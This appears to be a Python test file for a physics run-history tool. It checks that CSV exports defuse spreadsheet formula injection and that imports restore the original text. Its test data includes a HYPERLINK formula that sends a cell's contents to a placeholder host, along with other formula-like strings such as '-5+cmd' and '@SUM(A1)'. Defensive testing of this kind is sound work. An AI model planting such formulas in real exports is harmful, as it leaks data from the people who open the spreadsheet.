"""A spreadsheet runs no cell of an export, and the import reads what was there."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path

import pytest
from attpc_plugins.run_history.exchange import csv_file
from attpc_plugins.run_history.exchange.source import RunFile
from attpc_plugins.run_history.store.model.history import Run, RunDetail, Stage
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from attpc_ioc.model.command import Who
from attpc_ioc.model.run import RunOutcome
from tests.support.history_shell import Shell
from tests.support.run_records import Stamps, open_store, put_of

BEGINNINGS = "=+-@\t\r"
NUMBER = re.compile(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?")

FORMULA = '=HYPERLINK("http://x/"&A1,"click")'

risky = st.text("=+-@\t\r'\"1.e9a, \n", max_size=12)


@given(risky)
@example("-")
@example("-1e")
@example("'=1")
@example("''=1")
@example("'quoted' word")
@settings(deadline=None)
def test_no_cell_begins_like_a_formula_and_all_are_read_the_same(text: str) -> None:
    ((cell,),) = csv.reader(io.StringIO(csv_file.row_text([text]) if text else '""\n', newline=""))
    assert cell[:1] not in tuple(BEGINNINGS) or NUMBER.fullmatch(cell)
    assert csv_file.plain_text(cell) == text


@pytest.mark.parametrize("text", ["-5", "+5", "-0.25", "-1e-7", "-.5", "-5.", "7"])
def test_negative_numbers_stay_numbers(text: str) -> None:
    assert csv_file.row_text([text]) == f"{text}\n"


@pytest.mark.parametrize("text", ["-5+cmd", "-inf", "- 5", "+1+1", "--5", "-٣", "-5\n", "@SUM(A1)", "\t=1"])
def test_what_only_begins_like_one_is_text(text: str) -> None:
    ((cell,),) = csv.reader(io.StringIO(csv_file.row_text([text]), newline=""))
    assert cell == f"'{text}"


@given(st.lists(st.tuples(risky, risky, risky), min_size=1, max_size=5))
@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_runs_go_through_a_file_unchanged(tmp_path: Path, texts: list[tuple[str, str, str]]) -> None:
    details = [
        RunDetail(
            Run(
                "e1",
                number,
                Stage.ENDED,
                title=title,
                operator=operator,
                comment=comment,
                outcome=RunOutcome.STOPPED,
            )
        )
        for number, (title, operator, comment) in enumerate(texts)
    ]
    file = tmp_path / "runs.csv"
    text = csv_file.header_text() + "".join(map(csv_file.run_text, details))
    file.write_text(text, encoding="utf-8", newline="")
    assert list(RunFile(file).runs()) == details


async def filled(dsn: str) -> None:
    async with open_store(dsn) as store:
        who = Who("=1+1", "@host", "-x")
        await store.apply_many([put_of(Stamps()(), 1.8e9, "T:Run:Title", who, "-5", FORMULA, False, "+x")])


def test_every_csv_of_the_shell(full: Shell, dsn: str) -> None:
    asyncio.run(filled(dsn))
    full.run("history", "edit", "e1", "1", "--title", FORMULA, "--operator", "-5")
    full.run("experiments", "comment", "e1", FORMULA)
    full.run("observables", "add", "p", "-e", "e1", "--comment", FORMULA, "--units", "@m")
    for words in (
        ("history", "list", "--format", "csv"),
        ("history", "export"),
        ("history", "puts", "--format", "csv"),
        ("experiments", "list", "--format", "csv"),
        ("observables", "list", "-e", "e1", "--format", "csv"),
    ):
        rows = list(csv.reader(io.StringIO(full.run(*words), newline="")))
        cells = [cell for row in rows for cell in row]
        assert f"'{FORMULA}" in cells, words
        assert not [c for c in cells if c[:1] in tuple(BEGINNINGS) and not NUMBER.fullmatch(c)], words
    (row,) = csv.DictReader(io.StringIO(full.run("history", "puts", "--format", "csv")))
    assert (row["old"], row["user"]) == ("-5", "'=1+1"), "a number stays one"
    # JSON is for programs, and has every text as it is.
    line = full.run("history", "puts", "--format", "json")
    assert json.loads(line)["new"] == FORMULA


def test_export_and_import_keep_the_text(full: Shell, tmp_path: Path) -> None:
    full.run("history", "edit", "e1", "1", "--title", FORMULA, "--comment", "'=kept")
    file = tmp_path / "out.csv"
    full.run("history", "export", "-e", "e1", "-o", file)
    full.run("history", "import", file, "-e", "copy")
    shown = json.loads(full.run("history", "show", "copy", "1", "--format", "json"))
    assert (shown["run"]["title"], shown["run"]["comment"]) == (FORMULA, "'=kept")
